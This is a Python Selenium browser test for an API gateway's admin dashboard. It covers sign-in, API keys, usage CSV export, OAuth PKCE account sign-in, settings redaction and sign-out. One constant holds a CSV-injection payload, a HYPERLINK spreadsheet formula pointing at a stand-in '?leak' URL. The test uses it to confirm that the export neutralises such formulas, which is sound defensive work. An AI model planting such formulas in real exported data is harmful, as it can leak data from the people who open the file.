"""The dashboard in a real headless Chromium, driven by WebDriver (selenium + chromedriver).

Run by tests/dashboard_browser.rs with: the gateway's URL, the fake upstream's URL, the config
client key, the admin token, the upstream
account's secret, the path for the Overview screenshot, and a download directory. The gateway
already served two requests (config key `tester`); the second put the account `tired` in a
cooldown.
Exits non-zero with a message on the first thing that is not as a user expects.
"""

import csv as csv_module
import datetime
import io
import json
import os
import pathlib
import sys
import time
import urllib.error
import urllib.request
import zoneinfo

from selenium import webdriver
from selenium.common.exceptions import NoSuchElementException, StaleElementReferenceException
from selenium.webdriver.chrome.service import Service
from selenium.webdriver.common.by import By
from selenium.webdriver.support import expected_conditions as EC
from selenium.webdriver.support.ui import WebDriverWait

# The browser runs in a time zone far from UTC, so a time shown in UTC would not match.
BROWSER_TZ = "Pacific/Kiritimati"


FORMULA_MODEL = '=HYPERLINK("https://example.invalid/?leak","open")'


def relay(base, key, model="gpt-5"):
    """A Responses request with `key`; the HTTP status."""
    body = json.dumps(
        {"model": model, "input": "hi", "instructions": "be brief", "stream": False}
    ).encode()
    request = urllib.request.Request(
        base + "/v1/responses",
        data=body,
        headers={"authorization": "Bearer " + key, "content-type": "application/json"},
    )
    try:
        with urllib.request.urlopen(request, timeout=30) as response:
            return response.status
    except urllib.error.HTTPError as error:
        return error.code


def admin_get(base, token, path):
    request = urllib.request.Request(base + path, headers={"authorization": "Bearer " + token})
    with urllib.request.urlopen(request, timeout=30) as response:
        return json.load(response)


def browser(downloads):
    options = webdriver.ChromeOptions()
    options.binary_location = os.environ.get("SUBRELAY_TEST_CHROMIUM", "/usr/bin/chromium")
    for flag in (
        "--headless",
        "--no-sandbox",
        "--disable-gpu",
        "--disable-dev-shm-usage",
        "--disable-quic",
        "--no-first-run",
        "--disable-background-networking",
        "--disable-component-update",
        "--disable-sync",
        "--lang=en-US",
        "--window-size=1280,1000",
        "--user-data-dir=" + os.path.join(downloads, "profile"),
    ):
        options.add_argument(flag)
    options.add_experimental_option(
        "prefs",
        {"download.default_directory": downloads, "download.prompt_for_download": False},
    )
    service = Service(
        executable_path=os.environ.get("SUBRELAY_TEST_CHROMEDRIVER", "/usr/bin/chromedriver"),
        env={**os.environ, "TZ": BROWSER_TZ},
    )
    return webdriver.Chrome(options=options, service=service)


class Page:
    def __init__(self, driver, base, secrets):
        self.driver = driver
        self.base = base
        self.secrets = secrets
        # Pages re-render by replacing their nodes: a node found a moment ago may be gone.
        self.wait = WebDriverWait(
            driver, 20, ignored_exceptions=[NoSuchElementException, StaleElementReferenceException]
        )

    def find(self, css):
        return self.wait.until(EC.presence_of_element_located((By.CSS_SELECTOR, css)))

    def text_is(self, css, text):
        self.wait.until(EC.text_to_be_present_in_element((By.CSS_SELECTOR, css), text))

    def text_eq(self, css, text):
        self.wait.until(
            lambda d: [e.text.strip() for e in d.find_elements(By.CSS_SELECTOR, css)] == [text]
        )

    def open(self, page):
        """Opens a dashboard page through its nav link and waits until it has rendered."""
        self.driver.find_element(By.ID, "nav-" + page).click()
        self.find(f'main[data-page="{page}"]')
        self.wait.until(lambda d: d.execute_script("return document.readyState") == "complete")
        self.no_secret()

    def rerender(self, page, css, text, exact=False, tries=40):
        """Re-opens `page` until `css` holds `text` (the store writes usage shortly after)."""
        for _ in range(tries):
            self.driver.execute_script("window.location.hash = '#none'")
            self.open(page)
            found = self.driver.find_elements(By.CSS_SELECTOR, css)
            if found and (text in found[0].text if exact is False else found[0].text == text):
                return found[0]
            time.sleep(0.25)
        raise AssertionError(f"{css} never showed {text!r}: {self.driver.page_source[:3000]}")

    def no_secret(self):
        html = self.driver.page_source
        for secret in self.secrets:
            assert secret not in html, f"a page shows a credential ({secret[:6]}...)"

    def fits_a_phone(self):
        overflow = self.driver.execute_script(
            "return document.documentElement.scrollWidth - window.innerWidth"
        )
        assert overflow <= 0, f"the page is {overflow}px wider than a phone's screen"


def main():
    base, mock, client_key, admin_token, upstream_secret, screenshot, downloads = sys.argv[1:8]
    driver = browser(downloads)
    try:
        run(driver, base, mock, client_key, admin_token, upstream_secret, screenshot, downloads)
    except Exception:
        print(driver.page_source[:5000], file=sys.stderr)
        raise
    finally:
        driver.quit()


def run(driver, base, mock, client_key, admin_token, upstream_secret, screenshot, downloads):
    page = Page(driver, base, [admin_token, upstream_secret])

    # Without a session the dashboard sends the browser to the sign-in page.
    driver.get(base + "/admin/")
    page.find("#signin")
    assert driver.current_url == base + "/admin/login", driver.current_url
    page.find("#token").send_keys("wrong-token")
    page.find("#signin-button").click()
    page.text_is("#signin-error", "wrong admin token")
    page.find("#token").send_keys(admin_token)
    page.find("#signin-button").click()
    page.find('main[data-page="overview"]')
    page.no_secret()

    cookies = {c["name"]: c for c in driver.get_cookies()}
    session = cookies["subrelay_session"]
    assert session["httpOnly"] is True, session
    assert session["sameSite"] == "Strict", session
    assert "expiry" in session, session
    assert driver.execute_script("return document.cookie") == "", "the session is not for scripts"

    # Overview: the earlier requests and the cooling account with its reason.
    page.text_eq("#ov-requests-24h", "2")
    page.text_eq("#health-cooling", "1")
    page.text_is("#problems", "tired")
    page.text_is("#problems", "rate_limited")

    # Keys: create one, read it once.
    page.open("keys")
    page.find("#key-name").send_keys("colleague")
    page.find("#key-rpm").send_keys("100")
    page.find("#create-key button[type=submit]").click()
    secret = page.find("#new-key").text.strip()
    assert secret.startswith("sk-"), secret
    page.find("#copy-key").click()
    page.text_is("#copy-key", "Copied")
    page.find('tr[data-key="colleague"]')
    page.open("usage")
    page.open("keys")
    assert not driver.find_elements(By.ID, "new-key"), "the key is shown only once"
    assert secret not in driver.page_source, "the key is shown only once"
    page.secrets.append(secret)

    # A request with the new key through subrelay to the fake upstream, its model a spreadsheet
    # formula (any API key can choose the model name it sends).
    assert relay(base, secret, FORMULA_MODEL) == 200

    # Usage: the request appears, filtered by key, in the browser's time zone; CSV export.
    page.rerender("usage", "#usage-table tbody", "colleague")
    page.find("#f-key").send_keys("colleague")
    page.find("#usage-filter button[type=submit]").click()
    page.text_eq("#usage-count", "1–1 of 1")
    row = page.find("#usage-table tbody tr")
    stored = admin_get(base, admin_token, "/admin/api/usage?key=colleague")["rows"][0]
    local = datetime.datetime.fromtimestamp(stored["at_ms"] / 1000, zoneinfo.ZoneInfo(BROWSER_TZ))
    shown = local.strftime("%-m/%-d/%Y, %-I:%M:%S %p")
    assert shown in row.text, (shown, row.text)
    page.find("#export-csv").click()
    csv_path = pathlib.Path(downloads) / "subrelay-usage.csv"
    for _ in range(80):
        if csv_path.exists() and csv_path.stat().st_size > 0:
            break
        time.sleep(0.25)
    csv = csv_path.read_text()
    lines = csv.strip().splitlines()
    assert lines[0].startswith("time,request_id,at_ms,key,"), lines[0]
    assert len(lines) == 2 and ",colleague," in lines[1], csv
    # The formula is exported as text: prefixed with ' (OWASP), never as a live formula.
    header, row = list(csv_module.reader(io.StringIO(csv)))
    model = row[header.index("model")]
    assert model == "'" + FORMULA_MODEL, model
    assert not any(cell.startswith(("=", "+", "@")) for cell in row), row

    # Overview counts the new request too.
    page.rerender("overview", "#ov-requests-24h", "3", exact=True)
    page.text_eq("#ov-success-24h", "100.0%")

    # Keys: this month's usage, then disable the key and see the next request refused.
    page.open("keys")
    page.text_is('tr[data-key="colleague"]', "colleague")
    cells = page.find('tr[data-key="colleague"]').find_elements(By.TAG_NAME, "td")
    assert cells[5].text == "1", [c.text for c in cells]
    page.find('tr[data-key="colleague"] button[data-action="disable"]').click()
    page.text_eq('tr[data-key="colleague"] .state', "disabled")
    status = relay(base, secret)
    assert status in (401, 403), status

    # Accounts: the cooling account with its reason and quota, then reset.
    page.open("accounts")
    tired = 'tr[data-account="tired"]'
    page.text_eq(tired + " .state", "cooling")
    page.text_is(tired, "rate_limited")
    page.text_is(tired, "5 h")
    page.find(tired + ' button[data-action="reset"]').click()
    page.text_eq(tired + " .state", "available")
    page.text_is("#flash", "tired: reset")

    # Sign an account in: OAuth code + PKCE against the fake upstream, then it serves a request.
    page.open("signin")
    page.find("#si-name").send_keys("signed")
    page.find("#si-base").send_keys(mock + "/backend-api/codex")
    page.find("#si-priority").send_keys("-5")
    page.find("#signin-start button[type=submit]").click()
    link = page.find("#authorize-link").get_attribute("href")
    assert link.startswith(mock + "/oauth/authorize?"), link
    assert "code_challenge_method=S256" in link and "code_challenge=" in link, link
    dashboard = driver.current_window_handle
    driver.switch_to.new_window("tab")
    driver.get(link)
    WebDriverWait(driver, 20).until(lambda d: "/oauth/callback?code=" in d.current_url)
    callback = driver.current_url
    driver.close()
    driver.switch_to.window(dashboard)
    page.find("#si-callback").send_keys(callback)
    page.find("#signin-finish button[type=submit]").click()
    page.find('main[data-page="accounts"] tr[data-account="signed"]')
    page.text_eq('tr[data-account="signed"] .state', "available")
    page.text_is("#flash", "account signed signed in")
    page.no_secret()
    assert relay(base, client_key) == 200
    for _ in range(80):
        rows = admin_get(base, admin_token, "/admin/api/usage?limit=1")["rows"]
        if rows and rows[0]["account"] == "signed":
            break
        time.sleep(0.25)
    else:
        raise AssertionError(f"the signed-in account served no request: {rows}")

    # Settings: the effective configuration, redacted, and what came from the environment.
    page.open("settings")
    page.text_is("#from-env", "gateway.max_account_switches")
    page.text_is("#from-env", "GATEWAY_MAX_ACCOUNT_SWITCHES")
    page.text_is("#effective-config", "max_account_switches: 3")
    page.text_is("#effective-config", "<redacted>")
    assert page.find("#config-file").text.startswith("/"), page.find("#config-file").text

    # A phone-sized screen: nothing wider than the screen (tables scroll in their box).
    driver.set_window_size(390, 844)
    for name in ("overview", "accounts", "signin", "keys", "usage", "settings"):
        page.open(name)
        page.fits_a_phone()

    # The Overview screenshot for the README.
    driver.set_window_size(1280, 1000)
    page.open("overview")
    page.text_eq("#ov-requests-24h", "4")
    assert driver.save_screenshot(screenshot), "no screenshot"

    # Sign out: back to sign-in, and the API refuses the old session.
    page.find("#signout").click()
    page.find("#signin")
    driver.get(base + "/admin/")
    page.find("#signin")
    status = driver.execute_async_script(
        "const done = arguments[arguments.length - 1];"
        "fetch('/admin/api/keys', {credentials: 'same-origin'}).then(r => done(r.status));"
    )
    assert status == 401, status
    print("dashboard ok")


if __name__ == "__main__":
    main()
